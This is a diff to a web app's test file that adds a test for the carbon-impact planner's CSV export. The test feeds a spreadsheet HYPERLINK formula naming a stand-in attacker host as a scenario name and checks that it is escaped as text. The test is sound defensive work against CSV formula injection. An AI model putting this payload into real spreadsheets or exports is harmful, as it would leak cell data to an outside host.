@@ -315,3 +315,11 @@ def test_the_planner_compares_two_lifetimes_with_one_common_baseline(client):
     # The chart has a titled vertical axis with values, and each bar its value.
     assert "Greenhouse gases (kg CO2e)" in page and 'class="impact-chart__tick"' in page
     assert page.count('class="impact-chart__value"') == 4
+
+
+def test_the_planner_export_writes_a_formula_as_a_scenario_name_as_text(client):
+    plan = {**PLAN, "a-label": '=HYPERLINK("http://evil.example/?"&A1,"x")'}
+    response = client.get(reverse("impact:planner-export"), plan)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert rows[0]["scenario"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert float(rows[0]["saving_gwp_kg"]) == pytest.approx(90_500)
